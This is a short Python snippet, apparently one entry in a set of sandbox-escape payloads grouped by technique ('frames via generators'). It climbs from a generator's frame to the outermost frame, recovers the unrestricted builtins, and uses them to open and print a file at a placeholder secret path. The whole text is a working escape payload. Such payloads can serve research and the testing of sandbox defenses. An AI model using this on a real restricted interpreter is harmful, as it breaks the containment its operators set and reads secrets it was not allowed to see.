# family: frames via generators (gi_frame)
# goal: climb from a generator frame to the runtime's globals
def gen():
    yield 1
g = gen()
frame = g.gi_frame
while frame.f_back is not None:
    frame = frame.f_back
real_builtins = frame.f_globals["__builtins__"]
print(real_builtins.open("__SECRET_PATH__").read())
